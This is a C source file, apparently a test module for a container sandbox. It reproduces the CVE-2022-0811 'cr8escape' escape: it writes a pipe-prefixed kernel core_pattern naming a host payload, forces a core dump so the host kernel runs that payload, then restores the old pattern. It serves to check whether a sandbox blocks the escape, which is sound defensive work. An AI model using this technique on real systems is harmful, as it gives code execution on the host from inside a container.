// SPDX-License-Identifier: GPL-2.0-only
/*
 * A pattern that begins with a pipe names a program that the host's kernel
 * runs when any process dumps core. CVE-2022-0811 ("cr8escape").
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"
#include "host.h"

#define PATTERN	"/proc/sys/kernel/core_pattern"

static char before[256];

static void remember(struct args *a)
{
	(void)a;
	read_file(PATTERN, before, sizeof(before));
	before[strcspn(before, "\n")] = 0;
}

static void put_back(void)
{
	write_file(PATTERN, before);
}

static int crash(void)
{
	const struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
	int status;
	pid_t pid = fork();

	if (!pid) {
		setrlimit(RLIMIT_CORE, &unlimited);
		abort();
	}
	return waitpid(pid, &status, 0) == pid && WCOREDUMP(status) ? 0 : EIO;
}

static int attempt(const struct args *a)
{
	int error = drop_payload();

	(void)a;
	if (!error)
		error = write_file(PATTERN, "|" HOST_PAYLOAD);
	return error ? error : crash();
}

const struct escape core_pattern[] = {
	{ "core_pattern", { .caps = ALL_CAPS }, remember, .attempt = attempt,
	  .escaped = owned, .restore = put_back, .error = EACCES,
	  .act = BULKHEAD_ACT_OPEN, .rule = "preset core-pattern" },
	{ NULL }
};
